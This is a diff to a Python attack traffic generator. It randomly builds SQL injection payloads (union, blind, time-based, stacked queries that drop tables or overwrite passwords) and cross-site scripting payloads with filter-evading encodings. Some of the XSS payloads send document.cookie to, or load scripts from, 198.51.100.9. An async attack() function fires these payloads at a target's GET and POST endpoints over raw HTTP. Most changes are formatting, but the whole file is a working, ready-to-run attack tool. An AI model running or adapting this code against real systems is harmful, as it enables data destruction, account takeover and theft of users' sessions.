@@ -19,7 +19,9 @@ Maker = Callable[[Random], str]
 
 
 def _columns(r: Random) -> str:
-    return ",".join(r.choice(("null", str(i), "name", "password", "sqlite_version()")) for i in range(r.randint(1, 6)))
+    return ",".join(
+        r.choice(("null", str(i), "name", "password", "sqlite_version()")) for i in range(r.randint(1, 6))
+    )
 
 
 def _end(r: Random) -> str:
@@ -28,31 +30,66 @@ def _end(r: Random) -> str:
 
 def _truth(r: Random) -> str:
     n = r.randint(1, 9999)
-    return r.choice((f"{n}={n}", f"'{n}'='{n}", f"{n}<{n + 1}", f"'a'='a", f"{n} like {n}", "true"))
+    return r.choice((f"{n}={n}", f"'{n}'='{n}", f"{n}<{n + 1}", "'a'='a", f"{n} like {n}", "true"))
 
 
 SQLI: dict[str, Maker] = {
-    "tautology": lambda r: f"{r.choice(('1', '0', 'x', ''))}{r.choice((chr(39), chr(34), '', chr(39) + ')'))} or {_truth(r)} {_end(r)}",
-    "union": lambda r: f"{r.choice(('-1', '0', '1'))}{r.choice(('', chr(39)))} union {r.choice(('', 'all '))}select {_columns(r)} from {r.choice(('users', 'items', 'sqlite_master', 'information_schema.tables'))} {_end(r)}",
-    "error": lambda r: f"1{r.choice((chr(39), chr(34)))} and {r.choice(('extractvalue(1,concat(0x7e,version()))', 'cast(name as int)=1', 'abs(-9223372036854775808)', f'1=convert(int,{r.randint(1, 9)})'))} {_end(r)}",
-    "blind": lambda r: f"1{r.choice(('', chr(39)))} and {r.choice(('', 'not '))}(select substr(password,{r.randint(1, 12)},1) from users limit 1){r.choice('<=>')}{chr(39)}{r.choice('abcdefghkm0123456789')}{chr(39)} {_end(r)}",
-    "time": lambda r: f"1{r.choice(('', chr(39)))}{r.choice((f' and sleep({r.randint(1, 9)})', f'; waitfor delay {chr(39)}0:0:{r.randint(1, 9)}{chr(39)}', f' or benchmark({r.randint(10**5, 10**7)},md5(1))', f' and 1=(select count(*) from items a, items b where randomblob({r.randint(10, 99)}))'))} {_end(r)}",
-    "stacked": lambda r: f"1{r.choice(('', chr(39)))}; {r.choice(('drop table items', f'insert into users values({chr(39)}x{chr(39)},{chr(39)}{r.randint(1, 999)}{chr(39)})', 'delete from items', f'update users set password={chr(39)}{r.randint(1, 999)}{chr(39)}'))} {_end(r)}",
-    "order": lambda r: f"{r.randint(1, 9)}{r.choice(('', chr(39)))} {r.choice(('order by', 'group by'))} {r.randint(1, 30)} {_end(r)}",
+    "tautology": lambda r: (
+        f"{r.choice(('1', '0', 'x', ''))}{r.choice((chr(39), chr(34), '', chr(39) + ')'))} or {_truth(r)} {_end(r)}"
+    ),
+    "union": lambda r: (
+        f"{r.choice(('-1', '0', '1'))}{r.choice(('', chr(39)))} union {r.choice(('', 'all '))}select {_columns(r)} from {r.choice(('users', 'items', 'sqlite_master', 'information_schema.tables'))} {_end(r)}"
+    ),
+    "error": lambda r: (
+        f"1{r.choice((chr(39), chr(34)))} and {r.choice(('extractvalue(1,concat(0x7e,version()))', 'cast(name as int)=1', 'abs(-9223372036854775808)', f'1=convert(int,{r.randint(1, 9)})'))} {_end(r)}"
+    ),
+    "blind": lambda r: (
+        f"1{r.choice(('', chr(39)))} and {r.choice(('', 'not '))}(select substr(password,{r.randint(1, 12)},1) from users limit 1){r.choice('<=>')}{chr(39)}{r.choice('abcdefghkm0123456789')}{chr(39)} {_end(r)}"
+    ),
+    "time": lambda r: (
+        f"1{r.choice(('', chr(39)))}{r.choice((f' and sleep({r.randint(1, 9)})', f'; waitfor delay {chr(39)}0:0:{r.randint(1, 9)}{chr(39)}', f' or benchmark({r.randint(10**5, 10**7)},md5(1))', f' and 1=(select count(*) from items a, items b where randomblob({r.randint(10, 99)}))'))} {_end(r)}"
+    ),
+    "stacked": lambda r: (
+        f"1{r.choice(('', chr(39)))}; {r.choice(('drop table items', f'insert into users values({chr(39)}x{chr(39)},{chr(39)}{r.randint(1, 999)}{chr(39)})', 'delete from items', f'update users set password={chr(39)}{r.randint(1, 999)}{chr(39)}'))} {_end(r)}"
+    ),
+    "order": lambda r: (
+        f"{r.randint(1, 9)}{r.choice(('', chr(39)))} {r.choice(('order by', 'group by'))} {r.randint(1, 30)} {_end(r)}"
+    ),
 }
 
 
 def _do(r: Random) -> str:
-    return r.choice((f"alert({r.randint(1, 999)})", "alert(document.cookie)", f"fetch('//198.51.100.9/?c='+document.cookie)", "prompt(1)", "confirm`1`", "eval(atob('YWxlcnQoMSk='))", f"document.location='http://198.51.100.9/{r.randint(1, 99)}'", "console.log(localStorage)"))
+    return r.choice(
+        (
+            f"alert({r.randint(1, 999)})",
+            "alert(document.cookie)",
+            "fetch('//198.51.100.9/?c='+document.cookie)",
+            "prompt(1)",
+            "confirm`1`",
+            "eval(atob('YWxlcnQoMSk='))",
+            f"document.location='http://198.51.100.9/{r.randint(1, 99)}'",
+            "console.log(localStorage)",
+        )
+    )
 
 
 XSS: dict[str, Maker] = {
-    "tag": lambda r: f"{r.choice(('', '>', chr(34) + '>', '</title>'))}<script{r.choice(('', ' ', ' type=text/javascript', ' src=//198.51.100.9/x.js'))}>{_do(r)}</script>",
-    "event": lambda r: f"{r.choice(('', chr(34) + '>'))}<{r.choice(('img src=x', 'svg', 'body', 'input autofocus', 'video src=x', 'details open'))} {r.choice(('onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle'))}={r.choice(('', chr(34)))}{_do(r)}>",
-    "attribute": lambda r: f"{r.choice((chr(34), chr(39)))} {r.choice(('onmouseover', 'onclick', 'onfocus'))}={r.choice((chr(34), chr(39)))}{_do(r)} x={r.choice((chr(34), chr(39)))}",
-    "link": lambda r: f"<{r.choice(('a href', 'iframe src', 'form action', 'object data'))}={r.choice(('', chr(34)))}javascript:{_do(r)}>{r.choice(('click', 'news', ''))}",
+    "tag": lambda r: (
+        f"{r.choice(('', '>', chr(34) + '>', '</title>'))}<script{r.choice(('', ' ', ' type=text/javascript', ' src=//198.51.100.9/x.js'))}>{_do(r)}</script>"
+    ),
+    "event": lambda r: (
+        f"{r.choice(('', chr(34) + '>'))}<{r.choice(('img src=x', 'svg', 'body', 'input autofocus', 'video src=x', 'details open'))} {r.choice(('onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle'))}={r.choice(('', chr(34)))}{_do(r)}>"
+    ),
+    "attribute": lambda r: (
+        f"{r.choice((chr(34), chr(39)))} {r.choice(('onmouseover', 'onclick', 'onfocus'))}={r.choice((chr(34), chr(39)))}{_do(r)} x={r.choice((chr(34), chr(39)))}"
+    ),
+    "link": lambda r: (
+        f"<{r.choice(('a href', 'iframe src', 'form action', 'object data'))}={r.choice(('', chr(34)))}javascript:{_do(r)}>{r.choice(('click', 'news', ''))}"
+    ),
     "nested": lambda r: f"<scr<script>ipt>{_do(r)}</scr</script>ipt>",
-    "style": lambda r: f"<style>@import'//198.51.100.9/{r.randint(1, 99)}.css';</style><svg><animate onbegin={_do(r)} attributeName=x>",
+    "style": lambda r: (
+        f"<style>@import'//198.51.100.9/{r.randint(1, 99)}.css';</style><svg><animate onbegin={_do(r)} attributeName=x>"
+    ),
 }
 
 ENCODINGS: dict[str, Callable[[str, Random], str]] = {
@@ -65,36 +102,52 @@ ENCODINGS: dict[str, Callable[[str, Random], str]] = {
     "entity": lambda text, r: quote(text.replace("<", "&lt;").replace("a", "&#97;"), safe=""),
     "blank": lambda text, r: quote(text, safe="").replace("%20", r.choice(("%09", "%0a", "%0b", "+"))),
 }
-_PLACES = {"sqli": ("/item?id=", "/item?id=", "/search?q=", "/login", "/api/items?sort="), "xss": ("/search?q=", "/comments", "/item?id=", "/collect?name=")}
+_PLACES = {
+    "sqli": ("/item?id=", "/item?id=", "/search?q=", "/login", "/api/items?sort="),
+    "xss": ("/search?q=", "/comments", "/item?id=", "/collect?name="),
+}
 
 
 async def attack(
-    *, target: str, kind: str, families: list[str], encodings: list[str], rate: float, post: bool, keep: bool, seconds: float, seed: int
+    *,
+    target: str,
+    kind: str,
+    families: list[str],
+    encodings: list[str],
+    rate: float,
+    post: bool,
+    keep: bool,
+    seconds: float,
+    seed: int,
 ) -> None:
     """Send payloads at `rate`, by GET or in forms; `keep` reuses the connection."""
     random, pace, end = Random(seed), Pace(rate), time.monotonic() + seconds
     makers = SQLI if kind == "sqli" else XSS
-    reader = writer = None
+    kept: tuple[asyncio.StreamReader, asyncio.StreamWriter] | None = None
     while time.monotonic() < end:
         payload = ENCODINGS[random.choice(encodings)](makers[random.choice(families)](random), random)
         place = random.choice(_PLACES[kind])
         if post or "?" not in place:
             path = place.partition("?")[0]
-            field = {"/login": f"user={payload}&password=x", "/comments": f"text={payload}&name=me"}.get(path, f"{place.partition('?')[2] or 'q='}{payload}")
+            field = {"/login": f"user={payload}&password=x", "/comments": f"text={payload}&name=me"}.get(
+                path, f"{place.partition('?')[2] or 'q='}{payload}"
+            )
             request = f"POST {path} HTTP/1.1\r\nHost: {target}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(field)}\r\n"
         else:
             request, field = f"GET {place}{payload} HTTP/1.1\r\nHost: {target}\r\nAccept: */*\r\n", ""
         try:
-            if writer is None or not keep:
-                reader, writer = await asyncio.wait_for(asyncio.open_connection(target, 80), 4)
-            assert reader is not None
-            writer.write(f"{request}User-Agent: Mozilla/5.0\r\nConnection: {'keep-alive' if keep else 'close'}\r\n\r\n{field}".encode())
+            opened = kept or await asyncio.wait_for(asyncio.open_connection(target, 80), 4)
+            (reader, writer), kept = opened, None
+            writer.write(
+                f"{request}User-Agent: Mozilla/5.0\r\nConnection: {'keep-alive' if keep else 'close'}\r\n\r\n{field}".encode()
+            )
             await asyncio.wait_for(reader.read(16384), 4)
-            if not keep or random.random() < 0.1:
+            if keep and random.random() < 0.9:
+                kept = reader, writer
+            else:
                 writer.close()
-                writer = None
         except MISHAPS:
-            writer = None
+            kept = None
         await asyncio.sleep(pace.wait_s() if random.random() < 0.7 else random.uniform(0, 2 / rate))
 
 
